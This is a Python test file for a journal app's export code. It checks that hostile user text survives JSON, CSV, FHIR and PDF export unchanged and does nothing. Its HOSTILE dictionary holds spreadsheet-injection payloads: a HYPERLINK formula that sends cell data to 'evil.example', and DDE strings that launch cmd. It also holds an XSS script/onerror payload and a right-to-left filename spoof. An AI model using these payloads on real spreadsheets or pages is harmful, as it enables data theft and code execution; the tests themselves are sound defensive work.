"""Text that was made to hurt, through every format: it does nothing, and it is all there."""

import base64
import csv
import io
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Iterator
from uuid import uuid4

import orjson
import pypdf
import pytest

from journal.export import csv_files
from journal.export.fhir.parts import EXACT
from journal.export.material import Choice, gathered
from journal.export.pdf.written import lines
from journal.sessions import rows
from journal.sessions.kinds import CHECK_IN
from journal.sessions.rows import Draft
from tests.cast import check_in
from tests.export import r4
from tests.export.conftest import owner_of
from tests.export.test_exports import tables, taken_out

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "dde": "=cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A0",
    "after a blank": " =1+1",
    "after a line": "\n=1+1",
    "right to left": "\u202egnp.exe\u2066 a \u2069\u200f",
    "nul": "before\0after",
    "long": "q" * 20_000,
    "emoji": "🙂👩‍👩‍👧‍👦🇮🇪",
    "html": '<script>alert(1)</script><img src=x onerror=alert(1)> &amp; "quoted"',
    "csv": 'a,"b",c\r\nd;e\tf',
    "lines": "one\ntwo\r\nthree\rfour\u2028five",
    "json": '{"a": "\\u0000"} \\ " \x1b[31m \x7f',
    "scripts": "العربية עברית हिन्दी 日本語 Ελληνικά",
    "only blanks": "   ",
    "apostrophe": "'tis",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_inert_and_intact(maya, name):
    text = HOSTILE[name]
    maya.checks_in(None, "anytime", "2024-10-18T10:30:00-04:00", {"texts": {"story.line": text}})

    assert taken_out(maya).json["check_ins"][0]["story"]["texts"]["story.line"] == text
    answer = taken_out(maya, format="csv")
    [row] = tables(answer)["stories"]
    assert csv_files.restored(row["text"]) == text
    assert not row["text"].lstrip(csv_files._UNSEEN).startswith(tuple("=+-@\t\r\n"))


@pytest.mark.parametrize("name", HOSTILE)
def test_fhir_has_it_word_for_word_and_is_valid(maya, name):
    """What its text cannot carry is in an extension, to the letter."""
    maya.checks_in(None, "anytime", "2024-10-18T10:30:00-04:00", {"texts": {"story.line": HOSTILE[name]}})
    bundle = taken_out(maya, format="fhir").json

    assert HOSTILE[name] in exact_texts(bundle)
    assert r4.faults(bundle) == []
    assert r4.second_faults([bundle]) == [[]]


@pytest.mark.slow
@pytest.mark.parametrize("name", HOSTILE)
def test_paper_shows_it_and_runs_nothing(maya, name):
    """What has no shape on paper is marked, and what only turns letters around is taken out."""
    maya.checks_in(None, "anytime", "2024-10-18T10:30:00-04:00", {"texts": {"story.line": HOSTILE[name]}})
    made = taken_out(maya, format="pdf").data
    found = pypdf.PdfReader(io.BytesIO(made))

    shown = "".join(line["text"] for line in lines(HOSTILE[name]))
    assert signs(shown) <= signs("".join(page.extract_text() for page in found.pages))
    for inert in (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/SubmitForm"):
        assert inert not in made
    uris = {at["/A"].get("/URI") for page in found.pages for at in map(_object, page.get("/Annots", ())) if "/A" in at}
    assert uris - {None} == set()


def _object(reference):
    return reference.get_object()


def signs(text: str) -> Counter[str]:
    """How often each letter and sign is there; joined shapes and right-to-left come back in other orders."""
    return Counter(sign for sign in unicodedata.normalize("NFKC", text) if unicodedata.category(sign)[0] in "LNPS")


def exact_texts(value) -> Iterator[str]:
    """Every text of a structure, the exact one where another stands for it."""
    if isinstance(value, dict):
        for name, inner in value.items():
            extended = value.get(f"_{name}", {}).get("extension", ()) if isinstance(inner, str) else ()
            exact = [it["valueBase64Binary"] for it in extended if it["url"] == EXACT]
            if isinstance(inner, str):
                yield base64.b64decode(exact[0]).decode() if exact else inner
            else:
                yield from exact_texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from exact_texts(inner)


def test_a_line_of_a_hundred_kilobytes(maya, app):
    """Longer than any text the API takes; a journal may still have it, from another day's rules."""
    line = "=" + "long " * 20_000
    with app.app_context():
        owner = owner_of(app, maya)
        ratings = check_in(None, "anytime", "2024-10-18T10:30:00-04:00")["ratings"]
        rows.keep(CHECK_IN, owner, uuid4(), Draft(ratings, {"texts": {"story.line": line}}), None)
        material = gathered(owner, Choice())
        raw = b"".join(csv_files.written(material))

    assert taken_out(maya).json["check_ins"][0]["story"]["texts"]["story.line"] == line
    assert line in exact_texts(taken_out(maya, format="fhir").json)
    printed = pypdf.PdfReader(io.BytesIO(taken_out(maya, format="pdf").data))
    assert sum(page.extract_text().count("long") for page in printed.pages) >= 20_000
    text = zipfile.ZipFile(io.BytesIO(raw)).read("stories.csv").decode("utf-8-sig")
    csv.field_size_limit(10**6)
    [row] = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    assert csv_files.restored(row["text"]) == line


def test_a_hostile_label_stays_a_label(maya):
    own = "/additions/7a3f6c1e-2b44-4f0a-9a51-5d8c2f1b0e77"
    assert maya.put(own, {"ratings": {"list": "noticed"}, "story": {"label": HOSTILE["dde"]}}).status_code == 201

    [row] = tables(taken_out(maya, format="csv"))["own_sensations"]
    assert row["label"] == "'" + HOSTILE["dde"]
    assert orjson.loads(taken_out(maya).data)["additions"][0]["story"]["label"] == HOSTILE["dde"]
